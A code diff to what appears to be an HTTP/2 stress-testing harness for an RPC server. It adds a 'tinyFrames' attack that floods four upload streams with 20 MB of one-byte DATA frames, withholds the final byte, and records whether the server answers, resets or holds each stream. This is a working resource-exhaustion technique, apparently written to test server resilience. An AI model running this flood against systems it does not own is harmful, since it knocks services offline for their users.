@@ -1,7 +1,7 @@
 import { connect } from "node:http2";
 import { setTimeout as wait } from "node:timers/promises";
 import { Code } from "@connectrpc/connect";
-import { envelope } from "../http2-frames.ts";
+import { envelope, frame, frameFlags, frameTypes } from "../http2-frames.ts";
 import { methods } from "../methods.ts";
 import { openRawHttp2 } from "../raw-http2.ts";
 import { type Attack, tally } from "../target.ts";
@@ -60,4 +60,28 @@ export const unreadAnswers: Attack = async (target) => {
   }
   await wait(holdingMs);
   return { unread: unreadConnections * unreadCalls };
+};
+
+const tinyFrameStreams = 4;
+const tinyFrameBytes = 500_000;
+const tinyFramesAtOnce = 1_000;
+
+/** Messages of an upload, every byte of which comes in a frame of its own: 20 MB of frames, and the last byte is missing. */
+export const tinyFrames: Attack = async (target) => {
+  using raw = await openRawHttp2(target);
+  const streams = Array.from({ length: tinyFrameStreams }, (_, index) => 2 * index + 1);
+  for (const stream of streams) {
+    await raw.send(raw.request(stream, methods.upload));
+    await raw.send(frame(frameTypes.data, frameFlags.none, stream, envelope(0, Uint8Array.of(0), tinyFrameBytes)));
+  }
+  const floods = streams.map((stream) =>
+    Buffer.concat(
+      Array<Buffer>(tinyFramesAtOnce).fill(frame(frameTypes.data, frameFlags.none, stream, Uint8Array.of(0))),
+    ),
+  );
+  for (let sent = 0; sent + tinyFramesAtOnce < tinyFrameBytes && raw.isOpen(); sent += tinyFramesAtOnce) {
+    for (const flood of floods) await raw.send(flood);
+  }
+  await wait(holdingMs);
+  return tally(streams.map((stream) => raw.answers.get(stream) ?? raw.resets.get(stream) ?? "held"));
 };
